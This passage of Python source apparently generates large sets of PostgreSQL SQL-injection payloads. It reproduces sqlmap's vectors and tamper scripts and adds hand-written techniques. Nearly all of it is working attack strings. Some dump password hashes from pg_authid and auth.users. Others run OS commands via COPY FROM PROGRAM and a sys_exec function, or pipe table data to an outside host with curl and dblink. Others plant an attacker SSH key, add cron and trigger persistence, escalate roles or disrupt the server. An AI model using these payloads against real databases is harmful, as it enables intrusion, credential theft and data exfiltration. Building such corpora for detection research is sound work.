        tag, qtag = ":" + sw, ":" + (qsw + " " + o.switch).strip()
    else:
        INF = r.choice(["%d=%d" % (R1, R1)] * 4 + ["%d=%d" % (R1, R2), "%d<%d" % (min(R1, R2), max(R1, R2) + 1)])
        QRY = "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
        tag = qtag = ":detection"
    H, SL, CW, HQ = sqlmap_delays(R, SLEEP, INF, vector)
    B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"
    out = [
        (B, "AND boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 1, "AND %s" % INF, True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 2, "OR %s" % INF, True),
        (B, "AND boolean-based blind - WHERE or HAVING clause (NOT)", "generic", "cond", 1, "AND NOT %s" % INF, False),
        (B, "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 1,
         "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, o.s(rstr(r))), False),
        (B, "Boolean-based blind - Parameter replace (original value)", "generic", "repl", 3,
         "(SELECT (CASE WHEN (%s) THEN {orig} ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R1, R2), False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (original value)", PG, "order", 1,
         ",(SELECT (CASE WHEN (%s) THEN {orig} ELSE 1/(SELECT 0) END))" % INF, False),
        (TB, "PostgreSQL > 8.1 AND time-based blind", PG, "cond", 1, "AND %d=%s" % (R, CW(SL)), False),
        (TB, "PostgreSQL > 8.1 OR time-based blind (comment)", PG, "cond", 2, "OR %d=%s" % (R, CW(SL)), True),
        (TB, "PostgreSQL AND time-based blind (heavy query - comment)", PG, "cond", 1, "AND %d=%s" % (R, CW(HQ)), True),
        (TB, "PostgreSQL > 8.1 time-based blind - Parameter replace", PG, "repl", 3, CW(SL), False),
        (TB, "PostgreSQL time-based blind - Parameter replace (heavy query)", PG, "repl", 3, CW(HQ), False),
        (TB, "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",%s" % CW(SL), False),
        (EB, "PostgreSQL AND error-based - WHERE or HAVING clause", PG, "cond", 1, "AND %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, QRY, D2), False),
        (EB, "PostgreSQL error-based - Parameter replace", PG, "repl", 3, "(CAST(%s||(%s)::text||%s AS NUMERIC))" % (D1, QRY, D2), False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause (GENERATE_SERIES)", PG, "order", 1,
         ",(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (D1, R, R, INF if vector else "%d=%d" % (R1, R1), D2), False),
        (SQ, "PostgreSQL > 8.1 stacked queries", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % SLEEP), False),
        (SQ, "PostgreSQL stacked queries (heavy query)", PG, "stack", 1, ";SELECT %s" % (CW(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), False),
        (SQ, "PostgreSQL > 8.1 stacked queries (comment)", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % SLEEP), True),
        (IQ, "Generic inline queries", "generic", "repl", 3, "(SELECT CONCAT(%s,(%s),%s))" % (D1, QRY, D2), False),
        (IQ, "PostgreSQL inline queries", PG, "repl", 3, "(SELECT %s||(%s)::text||%s)" % (D1, QRY, D2), False),
    ]
    if r.random() < 0.03:
        out += [(TB, "Microsoft SQL Server/Sybase time-based blind (IF)", "Microsoft SQL Server", "stack", 1, ";IF(%d=%d) WAITFOR DELAY '0:0:%d'" % (R1, R1, SLEEP), True),
                (B, "Oracle AND boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "Oracle", "cond", 1,
                 "AND (SELECT (CASE WHEN (%d=%d) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,%d) END) FROM DUAL) IS NULL" % (R1, R1, R), False)]
    return [(f, t, d, p, w, pl, c, qtag if f in (EB, IQ) else tag) for f, t, d, p, w, pl, c in out]


def sqlmap_takeover(r):
    """(switch, stacked statements) of sqlmap's file-system and takeover steps on PostgreSQL, the ones make_seventeenth.py sent least."""
    oid = r.randint(20000, 90000)
    cmd = r.choice(CMDS)
    sp = r.choice([chrs, q, q])
    tbl = "sqlmapoutput%s" % r.choice(["", rword(r, 2)])
    return r.choice([
        ("--file-write (lo_unlink)", ";SELECT lo_unlink(%d)" % oid),
        ("--file-write (pg_largeobject insert)", ";INSERT INTO pg_largeobject VALUES (%d, 0, DECODE(%s,%s))" % (oid, sp(base64.b64encode(bytes(r.randrange(256) for _ in range(9))).decode()), sp("base64"))),
        ("--file-write (lo_export)", ";SELECT lo_export(%d,%s)" % (oid, sp("/tmp/libs%s.so" % rword(r, 5)))),
        ("--file-read (pg_read_file)", ";SELECT PG_READ_FILE(%s,0,8192)" % sp(r.choice(FILES))),
        ("--os-cmd (output table)", ";DELETE FROM %s" % tbl),
        ("--os-cmd (COPY FROM PROGRAM, read back)", ";COPY %s FROM PROGRAM %s;SELECT STRING_AGG(data,CHR(10)) FROM %s" % (tbl, sp(cmd), tbl)),
        ("--os-shell (udf sys_exec)", ";CREATE OR REPLACE FUNCTION sys_exec(text) RETURNS int4 AS '/tmp/libsqlmap%s.so','sys_exec' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % rword(r, 3)),
        ("--os-cmd (sys_exec)", ";SELECT sys_exec(%s)" % sp(cmd)),
        ("--priv-esc (check)", ";SELECT usesuper FROM pg_user WHERE usename=CURRENT_USER"),
        ("--cleanup (udf)", ";DROP FUNCTION IF EXISTS sys_exec(text);DROP FUNCTION IF EXISTS sys_eval(text)")])


def sqlmap_union(r, vector):
    n, pos, filler, cols, kw, rng, where = union_request(r, 10, 3, 2, 0.45)
    m1, m2, m3 = chrs(delimiter(r)), chrs(delimiter(r)), chrs(delimiter(r))
    x = r.randrange(6)
    if x == 0:
        return "Generic UNION query (%s) - %s columns (ORDER BY probing, --union-cols)" % (filler, rng), "generic", "ORDER BY %d" % r.randint(1, 12), 1
    if x == 1 or not vector:
        cols[pos] = "%s||%s||%s" % (m1, chrs(rstr(r, 10)), m2)
        return "Generic UNION query (%s) - %s columns" % (filler, rng), "generic", "%s %s" % (kw, ",".join(cols)), where
    src = r.choice([("pg_authid", ["rolname", "rolpassword"]), ("pg_roles", ["rolname", "rolsuper"]), ("cron.job", ["jobname", "command"]),
                    ("pg_namespace", ["nspname"]), ("pg_database", ["datname", "datacl"])] + [("public." + t, c) for t, c in sorted(DUMP.items())])
    cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in src[1]], m1, m3, m2)
    tail = r.choice(["", " OFFSET %d LIMIT 1" % r.randint(0, 30)])
    return "Generic UNION query (%s) - %s columns (--dump %s)" % (filler, rng, src[0]), PG, "%s %s FROM %s%s" % (kw, ",".join(cols), src[0], tail), where


def sqlmap_comment(r):
    return r.choice(["-- %s" % rstr(r)] * 5 + ["--", "-- ", "--+", "-- %d" % r.randint(0, 99), ";-- -", "/*", "-- #"])
def sqlmap_value(r, si, orig, place, where, payload, need_comment):
    """The parameter value of one request, with boundaries from sqlmap's boundaries.xml: a string slot
    closed and reopened by `AND n=n` (a numeric suffix after a quote), `AND 'x'='x`, `OR 'x'='y`, the
    LIKE form `%' ... AND '%'='`, the slot's own required tail, or a comment; numbers closed by brackets
    and reopened by `AND ((n=n`.  {orig} in a payload is the original value (Parameter replace /
    ORDER BY (original value))."""
    typ, cl = si["type"], si["closers"]
    if where == 2 and typ not in ("col", "dir", "ident"):
        x = r.random()
        orig = "-%d" % randnum(r) if typ in ("n", "list") or x < 0.5 else ("" if x < 0.8 else rstr(r, 5))
    payload = payload.replace("{orig}", orig if typ in ("n", "list", "col", "dir") or not orig else q(orig) if typ != "qi" else '"%s"' % orig)
    k = (si["cond_k"] if place == "cond" else len(cl)) if r.random() < 0.8 else r.choice([0, 1, 2])
    S, N = rstr(r), randnum(r)
    cmt = sqlmap_comment(r)
    close, reopen = ")" * k, "(" * k
    if typ in ("q", "e", "qi", "d"):
        qc = '"' if typ == "qi" else "'" if typ != "d" else TAG
        if place == "order":
            return orig + qc + payload + cmt if typ == "qi" and si["in_order"] else None
        if place == "repl":
            return payload if typ in ("qi", "d") or r.random() < 0.5 else qc + "||" + payload + "||" + qc
        if place == "stack":
            return orig + qc + close + payload + (cmt if need_comment or r.random() < 0.5 else "")
        if place == "union":
            return orig + qc + close + " " + payload + cmt
        if need_comment:
            return orig + qc + close + " " + payload + cmt
        x = r.random()
        if x < 0.08:
            return orig + qc + close + " " + payload + " AND " + reopen + "%d=%d" % (N, N)          # numeric suffix after a quote
        if x < 0.12 and si["cut"] is not None:
            return orig + qc + si["cut"] + " " + payload + cmt
        y = r.random()
        if y < 0.35:
            return orig + qc + close + " " + payload + " AND " + reopen + "%s%s%s=%s%s" % (qc, S, qc, qc, S)
        if y < 0.42 and (len(cl) >= 2 or r.random() < 0.3):
            return orig + qc + "))" + " " + payload + " AND ((" + "%s%s%s=%s%s" % (qc, S, qc, qc, S)
        if y < 0.52:
            return orig + qc + close + " " + payload + " OR " + reopen + "%s%s%s=%s%s" % (qc, S, qc, qc, rstr(r))
        if y < 0.7 and si["like"]:
            return orig + "%" + qc + close + " " + payload + " AND " + reopen + qc + "%" + qc + "=" + qc
        return orig + qc + close + " " + payload + cmt
    if typ in ("n", "list"):
        if place == "repl":
            return payload
        if place == "order":
            return orig + payload if si["in_order"] else None
        if place == "stack":
            return orig + close + payload + (cmt if need_comment or k or r.random() < 0.4 else "")
        if place == "union":
            return orig + close + " " + payload + cmt
        if need_comment:
            return orig + close + " " + payload + cmt
        x = r.random()
        if x < 0.04:
            return orig + close + " " + payload + " AND " + reopen + "%s=%s" % (q(S), q(S))
        if x < 0.1 and si["cut"] is not None:
            return orig + si["cut"] + " " + payload + cmt
        if x < 0.2 and (len(cl) >= 2 or r.random() < 0.3):
            return orig + "))" + " " + payload + " AND ((%d=%d" % (N, N)
        if k and x < 0.75:
            return orig + close + " " + payload + " AND " + reopen + "%d=%d" % (N, N)
        if k or x < 0.85:
            return orig + close + " " + payload + cmt
        return orig + " " + payload
    if typ in ("col", "dir"):
        if place == "order":
            return orig + payload + (cmt if r.random() < 0.35 else "")
        if place == "repl":
            return payload if typ == "col" else None
        if place == "stack":
            return orig + payload + (cmt if need_comment or r.random() < 0.5 else "")
        return None
    if typ == "ident" and place == "stack":
        return orig + (si["cut"] or "") + payload + (cmt if need_comment or r.random() < 0.6 else "")
    return None


SQL_WORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE IN EXISTS ORDER BY GROUP HAVING LIMIT OFFSET
INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE FUNCTION RETURNS LANGUAGE COPY PROGRAM DISTINCT TEXT NUMERIC VARCHAR STRICT IF REPLACE
ASCII SUBSTRING LENGTH CHR COALESCE COUNT PG_SLEEP GENERATE_SERIES FOR CONCAT DECODE""".split())
SPLITTABLE = ["SELECT", "UNION", "WHERE", "CASE", "WHEN", "THEN", "ELSE", "CAST", "FROM", "ORDER", "COUNT", "ASCII", "SUBSTRING"]


def tamper(r, name, s, typ):
    """Chains of the tamper scripts the earlier corpora used least or not at all: uppercase, randomcomments
    (which splits keywords, so the request no longer parses), equaltolike, bluecoat, space2dash,
    space2randomblank, unionalltounion, substring2leftright, escapequotes, and the header-only luanginx
    (the value as it is)."""
    if "," in name:
        for part in name.split(","):
            s = tamper(r, part, s, typ)
        return s
    outside = lambda fn: edit(s, typ, fn)
    if name == "luanginx":
        return s
    if name == "uppercase":
        return outside(lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: m.group(0).upper() if m.group(0).upper() in SQL_WORDS else m.group(0), t))
    if name == "randomcomments":
        def split(m):
            w = m.group(0)
            k = r.randint(1, len(w) - 1)
            return w[:k] + "/**/" + w[k:]
        return outside(lambda t, i, n: re.sub(r"\b(%s)\b" % "|".join(SPLITTABLE), lambda m: split(m) if r.random() < 0.5 else m.group(0), t))
    if name == "equaltolike":
        return outside(lambda t, i, n: re.sub(r"(?<![<>!:=])=(?!=)", " LIKE ", t))
    if name == "bluecoat":
        return outside(lambda t, i, n: re.sub(r"\b(SELECT|AND|OR|UNION|WHERE) ", lambda m: m.group(1) + "\t", t))
    if name == "space2dash":
        return outside(lambda t, i, n: re.sub(r" ", lambda m: "--%s\n" % rstr(r, r.randint(4, 8)), t))
    if name == "space2randomblank":
        return outside(lambda t, i, n: re.sub(r" ", lambda m: r.choice(["\t", "\n", "\f", "\r"]), t))
    if name == "unionalltounion":
        return outside(lambda t, i, n: re.sub(r"(?i)UNION ALL SELECT", "UNION SELECT", t))
    if name == "substring2leftright":
        return outside(lambda t, i, n: re.sub(r"SUBSTRING\((.+?) FROM 1 FOR (\d+)\)", r"LEFT(\1,\2)", t))
    if name == "escapequotes":
        return s.replace("'", "\\'").replace('"', '\\"')
    raise KeyError(name)


TAMPERS = ["uppercase,space2randomblank", "randomcomments", "equaltolike,bluecoat", "luanginx,space2dash", "unionalltounion,uppercase",
           "substring2leftright,equaltolike", "bluecoat,randomcomments", "escapequotes", "luanginx,uppercase,space2randomblank", "space2dash,equaltolike"]

union_fits = corpus_kit.union_in_query

SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
                           union_fits=union_fits, misfit=corpus_kit.misfit_share(0.75), vector_share=0.6, takeover_share=0.25, tamper_share=0.12)


# ---------------------------------------------------------------- hand-written PostgreSQL techniques
# mode: cond (an AND/OR clause) | union (a UNION tail) | stack (statements
# after ;) | repl (a value in place of the input) | concat (spliced into the
# string with ||) | order (one more ORDER BY expression) | row (more rows
# after the VALUES row the slot sits in; the core is a function of the
# row's width) | assign (more assignments in an UPDATE's SET list; {col} is
# a column the attacker wants) | returning (a RETURNING list on the DML
# statement) | conflict (an ON CONFLICT clause after the VALUES row) | iexpr
# (a term added to an interval literal) | frame (a window frame bound
# replaced by an expression) | sub (an array subscript replaced) | jkey (a
# JSON key closed and the select list extended).  Cores named stored_* are
# values saved through one form and replayed by a later statement; they go
# only into the templates that replay stored values.
def secs(r):
    return r.choice([4, 6, 8, 10, 12, 15, 25])


DO_TAGS = ["$b18$", "$SQL$", "$_$", "$ø$", "$body$", "$ж$", "$tag_1$", "$$", "$é$"]
OPEN_TAGS = ["$a$", "$Q$", "$_$", "$x18$", "$$", "$ж$", "$s1$"]


def plain(cmd):
    return cmd.replace("'", "").replace('"', "")


def row_of(first, rest="DEFAULT"):
    return lambda n: ", ".join([first] + [rest] * (n - 1))


def hand_cores(r, fam):
    a, b = r.randint(2, 90), r.randint(91, 9999)
    w, w2 = rword(r, r.randint(3, 7)), rword(r, r.randint(3, 6))
    s = secs(r)
    t, u, p, who = loot(r)
    e = target(r)
    x = "(%s)::text" % e
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    nm = rword(r, r.randint(4, 7)) + str(r.randint(0, 99))
    oid = r.randint(40000, 99999)
    role = r.choice(ROLES)
    pe = probe(r)
    sq = lambda v: v.replace("'", "''")
    pc = plain(cmd)
    if fam == "tautology":
        return [(n, "cond", c, PG) for n, c in [
            ("or_similar_to", "OR '%s' SIMILAR TO '%s%%'" % (w, w[0])), ("or_xmlexists", "OR xmlexists('/%s' PASSING BY VALUE '<%s/>')" % (w, w)),
            ("or_to_jsonb_eq", "OR to_jsonb(%d) = '%d'::jsonb" % (a, a)), ("or_row_ctor_eq", "OR ROW(%d, '%s') = ROW(%d, '%s')" % (a, w, a, w)),
            ("or_starts_with_op", "OR '%s' ^@ '%s'" % (w, w[:2])), ("or_any_array_lit", "OR %d = ANY('{%d,%d}'::int[])" % (a, a, b)),
            ("or_scalar_subselect", "OR (SELECT true)"), ("or_circle_contains", "OR point(0, 0) <@ circle '((0,0),%d)'" % a), ("or_regex_tilde", "OR '%s' ~ '%s'" % (w, w[1:])),
            ("or_now_after_epoch", "OR now() > 'epoch'::timestamptz"), ("or_num_nonnulls", "OR num_nonnulls(%d, NULL) = 1" % a), ("or_is_true", "OR true IS TRUE"),
            ("or_ascii_eq", "OR ascii('%s') = %d" % (w[0], ord(w[0]))), ("or_bool_cast", "OR 'on'::boolean"), ("or_in_single", "OR %d IN (%d)" % (a, a)),
            ("or_exists_generate", "OR EXISTS (SELECT FROM generate_series(1, 1))"), ("or_tstzrange_now", "OR tstzrange(now() - interval '1 day', NULL) @> now()"),
            ("or_length_gt_zero", "OR length('%s') > 0" % w), ("or_not_not", "OR NOT NOT true"), ("or_jsonb_contains", "OR '{\"%s\": %d}'::jsonb @> '{}'" % (w, a)),
            ("or_unicode_homoglyph_ascii", "OR 'ａ' <> 'a'"), ("stored_or_true_cast", "OR 1::boolean")]] + [
            ("set_all_rows", "assign", "{col} = {col} WHERE 1 IN (1)", PG), ("set_true_everywhere", "assign", "{col} = DEFAULT WHERE true OR false", PG)]
    if fam == "union":
        n = r.randint(1, 7)
        pos = r.randrange(n)
        arms = [("authid", "rolname||':'||coalesce(rolpassword,'')", " FROM pg_authid"), ("cron_jobs", "jobname||' '||schedule||' '||command", " FROM cron.job"),
                ("supabase_users", "email||':'||encrypted_password", " FROM auth.users"), ("statements", "left(query, 200)", " FROM pg_stat_statements"),
                ("dist_nodes", "nodename||':'||nodeport", " FROM pg_dist_node"), ("untrusted_langs", "lanname", " FROM pg_language WHERE NOT lanpltrusted"),
                ("loot_pair", "%s||':'||%s" % (u, p), " FROM %s" % t), ("db_acl", "datname||' '||coalesce(datacl::text,'')", " FROM pg_database"),
                ("file_settings", "sourcefile||':'||name||'='||setting", " FROM pg_file_settings"), ("roles_members", "roleid::regrole::text||'>'||member::regrole::text", " FROM pg_auth_members")]
        name, ex, frm = r.choice(arms)
        style = r.randrange(5)
        out = [("returning_to_jsonb", "returning", "RETURNING (SELECT to_jsonb(z)::text FROM %s z LIMIT 1)" % t, PG),
               ("returning_array_agg", "returning", "RETURNING (SELECT array_agg(%s)::text FROM %s)" % (p, t), PG),
               ("stored_union_pair", "union", "UNION SELECT %s FROM %s" % (nulls(n, pos, "%s||'/'||%s" % (u, p)), t), PG)]
        if style == 0:
            return out + [("union_to_jsonb_" + name, "union", "UNION ALL SELECT %s" % nulls(n, pos, "(SELECT jsonb_agg(to_jsonb(z))::text FROM (SELECT %s AS v%s) z)" % (ex, frm)), PG)]
        if style == 1:
            return out + [("union_string_agg_" + name, "union", "UNION ALL SELECT %s%s" % (nulls(n, pos, "string_agg(%s, chr(10))" % ex), frm), PG)]
        if style == 2:
            return out + [("union_query_to_xml_" + name, "union", "UNION ALL SELECT %s" % nulls(n, pos, "query_to_xml('SELECT %s AS v%s', true, false, '')::text" % (sq(ex), sq(frm))), PG)]
        if style == 3:
            return out + [("union_values_" + name, "union", "UNION ALL SELECT %s FROM (VALUES (1)) d, LATERAL (SELECT %s AS v%s) l" % (nulls(n, pos, "l.v"), ex, frm), PG)]
        kw = r.choice(["UNION ALL SELECT", "UnIoN SeLeCt", "UNION\nALL SELECT", "UNION ALL (SELECT", "union select"])
        tail = ")" if kw.endswith("(SELECT") else ""
        return out + [("union_arm_" + name, "union", "%s %s%s%s" % (kw, nulls(n, pos, ex), frm, tail), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("trigger_persistence", "CREATE FUNCTION %s() RETURNS trigger LANGUAGE plpgsql AS $t$BEGIN INSERT INTO %s (%s, %s) VALUES ('%s', '%s'); RETURN NEW; END$t$; CREATE TRIGGER %s AFTER INSERT ON %s FOR EACH ROW EXECUTE FUNCTION %s()"
             % (nm, t, u, p, w, w2, nm, t, nm)),
            ("rule_persistence", "CREATE RULE %s AS ON SELECT TO %s_v DO INSTEAD SELECT * FROM %s" % (nm, t.split(".")[-1], t)),
            ("rule_also_copy", "CREATE OR REPLACE RULE %s AS ON INSERT TO %s DO ALSO INSERT INTO %s_copy SELECT NEW.*" % (nm, t, nm)),
            ("default_privileges_public", "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO PUBLIC"),
            ("default_privileges_role", "ALTER DEFAULT PRIVILEGES FOR ROLE %s GRANT SELECT ON TABLES TO %s" % (role, nm)),
            ("set_role_privileged", "SET ROLE %s; SELECT %s FROM %s" % (role, p, t)), ("set_session_authorization", "SET SESSION AUTHORIZATION %s" % role),
            ("terminate_all_backends", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()"),
            ("cancel_other_apps", "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE application_name <> ''"),
            ("lock_access_exclusive", "BEGIN; LOCK TABLE %s IN ACCESS EXCLUSIVE MODE; SELECT pg_sleep(%d)" % (t, s * 60)),
            ("for_update_hold", "BEGIN; SELECT * FROM %s FOR UPDATE; SELECT pg_sleep(%d)" % (t, s * 30)),
            ("cron_persistence", "SELECT cron.schedule('%s', '* * * * *', $c$UPDATE %s SET %s = '%s' WHERE %s = '%s'$c$)" % (nm, t, p, rword(r, 20), u, who)),
            ("cron_drop_jobs", "DELETE FROM cron.job"), ("alter_role_bypassrls", "ALTER ROLE %s BYPASSRLS" % role),
            ("grant_server_files", "GRANT pg_read_server_files, pg_write_server_files TO %s" % role), ("notify_flood", "SELECT pg_notify('%s', repeat('x', 7999)) FROM generate_series(1, 100000)" % w),
            ("drop_policy", "DROP POLICY IF EXISTS \"owner reads\" ON public.soap_orders"), ("truncate_cascade", "TRUNCATE %s CASCADE" % t),
            ("alter_system_preload", "ALTER SYSTEM SET shared_preload_libraries = '/tmp/%s.so'" % nm), ("security_label_free_owner", "ALTER TABLE %s OWNER TO %s" % (t, nm)),
            ("stored_set_role", "SET ROLE %s" % role), ("stored_delete_all", "DELETE FROM %s" % t)]] + [
            ("row_attacker_values", "row", row_of("'%s'" % w), PG), ("row_subselect_loot", "row", lambda n: ", ".join(["(SELECT %s FROM %s LIMIT 1)" % (p, t)] + ["NULL"] * (n - 1)), PG),
            ("conflict_returning_loot", "conflict", "ON CONFLICT DO NOTHING RETURNING (SELECT array_agg(%s)::text FROM %s)" % (p, t), PG)]
    if fam == "oob_file_program":
        return [(n, m, c, PG) for n, m, c in [
            ("read_binary_file_len", "cond", "AND length(pg_read_binary_file('%s')) > %d" % (f, a)), ("stat_file_modified", "cond", "AND (pg_stat_file('%s')).modification > now() - interval '%d days'" % (f, a)),
            ("stat_file_isdir", "cond", "AND (pg_stat_file('%s', true)).isdir IS FALSE" % f), ("read_binary_encode", "union", "UNION ALL SELECT encode(pg_read_binary_file('%s'), 'base64')" % f),
            ("lo_from_bytea_export", "stack", "SELECT lo_export(lo_from_bytea(%d, convert_to('%s', 'UTF8')), '/tmp/%s')" % (oid, sq("* * * * * " + pc), nm)),
            ("lo_import_read", "stack", "SELECT lo_import('%s', %d); SELECT encode(lo_get(%d), 'escape')" % (f, oid, oid)),
            ("dblink_send_query", "stack", "SELECT dblink_connect('%s', 'host=%s user=x password=x'); SELECT dblink_send_query('%s', 'SELECT ' || quote_literal((SELECT string_agg(%s, ',') FROM %s)))" % (nm, ip, nm, p, t)),
            ("dblink_dns", "cond", "AND dblink_connect('host=' || md5((SELECT %s FROM %s LIMIT 1)) || '.%s') IS NOT NULL" % (p, t, host)),
            ("cron_copy_program", "stack", "SELECT cron.schedule('%s', '*/5 * * * *', $$COPY (SELECT 1) TO PROGRAM '%s'$$)" % (nm, pc)),
            ("copy_to_program_curl", "stack", "COPY (SELECT %s FROM %s) TO PROGRAM 'curl -s -d @- http://%s/'" % (p, t, host)),
            ("copy_from_program_ps", "stack", "CREATE TEMP TABLE %s (l text); COPY %s FROM PROGRAM '%s'" % (nm, nm, pc)),
            ("copy_to_file_ssh", "stack", "COPY (SELECT 'ssh-ed25519 AAAA%s attacker') TO '/var/lib/postgresql/.ssh/authorized_keys'" % rstr(r, 16)),
            ("ls_waldir", "union", "UNION ALL SELECT name FROM pg_ls_waldir()"), ("ls_tmpdir", "cond", "AND (SELECT count(*) FROM pg_ls_tmpdir()) >= 0"),
            ("read_file_repl", "repl", "(SELECT length(pg_read_file('%s')))" % f), ("read_file_concat", "concat", "pg_read_file('%s', 0, 512)" % f),
            ("assign_binary_file", "assign", "{col} = encode(pg_read_binary_file('%s'), 'hex')" % f), ("row_binary_file", "row", row_of("encode(pg_read_binary_file('%s'), 'hex')" % f)),
            ("stored_copy_program", "stack", "COPY (SELECT 1) TO PROGRAM '%s'" % pc)]]
    if fam == "time_pg_sleep":
        return [(n, m, c, PG) for n, m, c in [
            ("recursive_cte_burn", "cond", "AND (WITH RECURSIVE z(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM z WHERE i < %d) SELECT count(*) FROM z) > 0" % r.choice([5000000, 9000000, 20000000])),
            ("regex_dos", "cond", "AND regexp_match(repeat('a', %d) || 'b', '^(a+)+$') IS NULL" % r.choice([28, 32, 40])),
            ("generate_series_heavy", "cond", "AND (SELECT sum(g) FROM generate_series(1, %d) g) > 0" % r.choice([30000000, 50000000, 100000000])),
            ("md5_chain_burn", "cond", "AND (SELECT count(md5(g::text)) FROM generate_series(1, %d) g) > 0" % r.choice([3000000, 6000000])),
            ("sleep_case_probe", "cond", "AND 0 = (SELECT CASE WHEN %s THEN (SELECT 0 FROM pg_sleep(%d)) ELSE 0 END)" % (pe, s)),
            ("sleep_in_lateral", "cond", "AND EXISTS (SELECT 1 FROM (SELECT 1) a CROSS JOIN LATERAL pg_sleep(%d))" % s),
            ("sleep_to_char", "cond", "AND to_char(pg_sleep(%d)::text::int, '9') IS NULL" % s), ("sleep_array", "cond", "AND ARRAY[pg_sleep(%d)] IS NOT NULL" % s),
            ("advisory_wait", "cond", "AND pg_advisory_lock(%d) IS NOT NULL" % b), ("sleep_in_order", "order", "(SELECT pg_sleep(%d)::text)" % s),
            ("sleep_in_repl", "repl", "(SELECT %d FROM pg_sleep(%d))" % (a, s)), ("sleep_concat", "concat", "(SELECT pg_sleep(%d)::text)" % s),
            ("stack_sleep_loop", "stack", "SELECT pg_sleep(1) FROM generate_series(1, %d)" % s), ("stack_recursive_burn", "stack", "WITH RECURSIVE z(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM z) SELECT count(*) FROM z"),
            ("assign_sleep", "assign", "{col} = (SELECT {col} FROM pg_sleep(%d))" % s), ("interval_sleep", "iexpr", "(SELECT make_interval(secs => 1) FROM pg_sleep(%d))" % s),
            ("frame_sleep", "frame", "(SELECT 1 FROM pg_sleep(%d))" % s), ("stored_sleep", "cond", "AND pg_sleep(%d) IS NULL" % s)]] + [
            ("row_sleep", "row", row_of("(SELECT 0 FROM pg_sleep(%d))" % s), PG)]
    if fam == "boolean_blind":
        pn, pex = probe_named(r)
        pn2, pex2 = probe_named(r, "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who))
        return [("and_" + pn, "cond", "AND " + pex, PG), ("or_" + pn, "cond", "OR " + pex, PG), ("loot_" + pn2, "cond", "AND " + pex2, PG),
                ("stored_" + pn2, "cond", "AND " + pex2, PG)] + [(n, "cond", c, PG) for n, c in [
                ("pg_cron_installed", "AND EXISTS (SELECT 1 FROM pg_extension WHERE extname = 'pg_cron')"), ("citus_workers", "AND (SELECT count(*) FROM pg_dist_node) > %d" % (a % 5)),
                ("is_superuser_setting", "AND current_setting('is_superuser') = 'on'"), ("supabase_auth_schema", "AND to_regnamespace('auth') IS NOT NULL"),
                ("member_of_role", "AND pg_has_role(current_user, '%s', 'MEMBER')" % role), ("read_server_files", "AND pg_has_role('pg_read_server_files', 'USAGE')"),
                ("pgss_installed", "AND to_regclass('pg_stat_statements') IS NOT NULL"), ("version_15", "AND current_setting('server_version_num')::int >= 150000"),
                ("untrusted_lang", "AND EXISTS (SELECT 1 FROM pg_language WHERE lanname = 'plpython3u')")]] + [
            ("assign_probe", "assign", "{col} = (CASE WHEN %s THEN {col} ELSE {col} END)" % pe, PG), ("row_probe", "row", row_of("(CASE WHEN %s THEN 1 ELSE 2 END)" % pe), PG),
            ("order_probe", "order", "(CASE WHEN %s THEN 1 ELSE 1/0 END)" % pe, PG), ("frame_probe", "frame", "(CASE WHEN %s THEN 1 ELSE 3 END)" % pe, PG),
            ("jkey_probe", "jkey", "(CASE WHEN %s THEN 'a' ELSE 'b' END)" % pe, PG)]
    if fam == "error_cast":
        return [(n, "cond", c, PG) for n, c in [
            ("xpath_error_leak", "AND xpath('/' || %s, '<a/>'::xml) IS NULL" % x), ("query_to_xml_cast", "AND query_to_xml('SELECT ' || quote_literal(%s), true, true, '')::text::int = 0" % x),
            ("xmlparse_error", "AND xmlparse(content '<' || %s) IS NULL" % x), ("regclass_error", "AND %s::regclass IS NULL" % x), ("uuid_cast", "AND %s::uuid IS NULL" % x),
            ("interval_cast", "AND %s::interval IS NULL" % x), ("to_date_error", "AND to_date(%s, 'YYYY-MM-DD') IS NULL" % x), ("int_array_cast", "AND ('{' || %s || '}')::int[] IS NULL" % x),
            ("stat_file_error", "AND pg_stat_file(%s) IS NULL" % x), ("money_cast", "AND %s::money IS NULL" % x), ("regrole_error", "AND %s::regrole IS NULL" % x),
